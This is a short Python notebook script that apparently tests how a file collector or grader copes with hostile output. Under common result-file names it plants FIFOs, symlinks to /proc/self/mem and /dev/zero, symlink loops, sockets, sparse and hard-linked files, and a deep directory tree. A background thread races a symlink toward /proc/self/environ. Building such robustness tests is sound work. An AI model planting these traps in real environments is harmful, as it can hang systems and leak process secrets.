# %%
import os
import socket
import threading

answer = 42


def double(x):
    return 2 * x


# %%
# where a careless collector would look, put things that block, end never or lead elsewhere
NAMES = ["results.json", "output.csv", "submission.csv", "model.keras", "predictions.npy", "book.ipynb", "book.py"]
for number, name in enumerate(NAMES):
    try:
        os.mkfifo(name + ".fifo")
    except OSError:
        pass  # the filter allows no special files
    os.symlink("/proc/self/mem", name + ".mem")
    os.symlink("/dev/zero", name + ".zero")
    os.symlink(name + ".self", name + ".self")
    os.symlink("/proc/1/root/tmp", name + ".folder")
    os.mkdir(name)
    listening = socket.socket(socket.AF_UNIX)
    listening.bind(f"{name}/socket")
    with open(name + ".sparse", "wb") as file:
        file.seek(1 << 24)
        file.write(b"x")
    os.link(name + ".sparse", name + ".hard")
deep = "."
for level in range(100):
    deep = f"{deep}/{'d' * 30}"
    os.mkdir(deep)
os.chmod("results.json", 0)


def swap():
    number = 0
    while True:
        number += 1
        for target in ("/etc/localtime", "/proc/self/environ", "data/public.csv"):
            try:
                os.symlink(target, f"swap-{number % 50}")
                os.replace(f"swap-{number % 50}", "race.csv")
            except OSError:
                pass


threading.Thread(target=swap, daemon=True).start()
print("TRIED")
